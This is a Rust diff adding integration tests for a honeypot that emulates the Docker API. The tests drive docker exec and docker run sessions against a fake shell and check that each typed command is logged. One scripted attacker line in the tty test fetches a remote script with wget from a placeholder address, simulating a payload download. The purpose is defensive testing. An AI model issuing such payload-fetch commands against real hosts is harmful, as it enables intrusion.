@@ -457,3 +457,125 @@ fn nmap_from_a_namespace_names_the_real_ports() {
     );
     assert!(!l.contains("ssl/"), "{l}");
 }
+
+/// `docker exec -i` with stdin from a pipe: the CLI hijacks `/exec/{id}/start` (`Upgrade:
+/// tcp`, 101) and the fake shell behind it runs each line, recorded as `command` events.
+#[test]
+fn docker_exec_gets_a_fake_shell_whose_commands_are_recorded() {
+    use std::io::Write as _;
+    let d = Decky::serve("docker_api", None);
+    let host = format!("tcp://127.0.0.1:{}", d.port);
+    let cfg = std::env::temp_dir().join(format!("http13-docker-exec-{}", std::process::id()));
+    std::fs::create_dir_all(&cfg).expect("docker config dir");
+    let mut child = Command::new("timeout")
+        .args(["30", "docker", "-H", &host, "exec", "-i", "web", "sh"])
+        .env("DOCKER_CONFIG", &cfg)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("docker CLI (it comes with the daemon the deployer tests need)");
+    child
+        .stdin
+        .take()
+        .expect("stdin")
+        .write_all(b"id\nuname -a\ncat /etc/hostname\nexit\n")
+        .expect("write stdin");
+    let out = child.wait_with_output().expect("docker exec");
+    let text = String::from_utf8_lossy(&out.stdout);
+    eprintln!(
+        "docker exec -i → {:?}\n{text}{}",
+        out.status.code(),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(out.status.code(), Some(0), "{text}");
+    assert!(
+        text.contains("uid=0(root) gid=0(root) groups=0(root)"),
+        "{text}"
+    );
+    assert!(text.contains("Linux "), "{text}");
+    let ev = next_action(&d, "exec_create");
+    assert_eq!(ev["details"]["command"], "sh", "{ev}");
+    let start = next_action(&d, "exec_start");
+    assert_eq!(start["details"]["tty"], false, "{start}");
+    let cmds: Vec<Value> = (0..4)
+        .map(|_| next_of(&d, "command")["details"]["command"].clone())
+        .collect();
+    assert_eq!(
+        cmds,
+        ["id", "uname -a", "cat /etc/hostname", "exit"].map(Value::from),
+        "the typed commands, in order"
+    );
+    // The container's host name is its short id, as `docker ps` shows it.
+    let (_, ps) = run(
+        "docker",
+        &["-H", &host, "ps", "--format", "{{.ID}} {{.Names}}"],
+        &[("DOCKER_CONFIG", &cfg.to_string_lossy())],
+        Duration::from_secs(20),
+    );
+    let web_id = ps
+        .lines()
+        .find_map(|l| l.strip_suffix(" web"))
+        .unwrap_or_default()
+        .to_owned();
+    assert!(!web_id.is_empty() && text.contains(&web_id), "{ps}\n{text}");
+    let _ = std::fs::remove_dir_all(&cfg);
+}
+
+/// `docker exec -it ID sh` and `docker run -it` under a pseudo-terminal (expect): a prompt,
+/// the typed line echoed and run, `exit` ends the session with status 0.
+#[test]
+fn docker_exec_and_run_with_a_tty_under_expect() {
+    let d = Decky::serve("docker_api", None);
+    let cfg = std::env::temp_dir().join(format!("http13-docker-tty-{}", std::process::id()));
+    std::fs::create_dir_all(&cfg).expect("docker config dir");
+    let script = format!(
+        r##"set timeout 20
+set env(DOCKER_CONFIG) "{cfg}"
+spawn docker -H tcp://127.0.0.1:{port} exec -it web sh
+expect "# "
+send "id\r"
+expect "uid=0(root)"
+expect "# "
+send "wget http://203.0.113.9/x.sh\r"
+expect "# "
+send "exit\r"
+expect eof
+catch wait r
+puts "EXEC_STATUS=[lindex $r 3]"
+spawn docker -H tcp://127.0.0.1:{port} run -it --rm alpine /bin/bash
+expect -re "root@\[0-9a-f\]{{12}}:/# "
+send "whoami\r"
+expect "# "
+send "exit\r"
+expect eof
+catch wait r
+puts "RUN_STATUS=[lindex $r 3]"
+"##,
+        cfg = cfg.display(),
+        port = d.port
+    );
+    let mut cmd = tool_with_timeout("expect", "expect", 90);
+    let out = cmd.args(["-c", &script]).output().expect("expect");
+    let text = String::from_utf8_lossy(&out.stdout);
+    eprintln!("{text}{}", String::from_utf8_lossy(&out.stderr));
+    assert!(text.contains("EXEC_STATUS=0"), "{text}");
+    assert!(text.contains("RUN_STATUS=0"), "{text}");
+    let start = next_action(&d, "exec_start");
+    assert_eq!(start["details"]["tty"], true, "{start}");
+    assert_eq!(next_of(&d, "command")["details"]["command"], "id");
+    assert_eq!(
+        next_of(&d, "command")["details"]["command"],
+        "wget http://203.0.113.9/x.sh"
+    );
+    let ev = next_action(&d, "container_create");
+    assert_eq!(ev["details"]["image"], "alpine", "{ev}");
+    next_action(&d, "container_attach");
+    loop {
+        let c = next_of(&d, "command");
+        if c["details"]["command"] == "whoami" {
+            break;
+        }
+    }
+    let _ = std::fs::remove_dir_all(&cfg);
+}
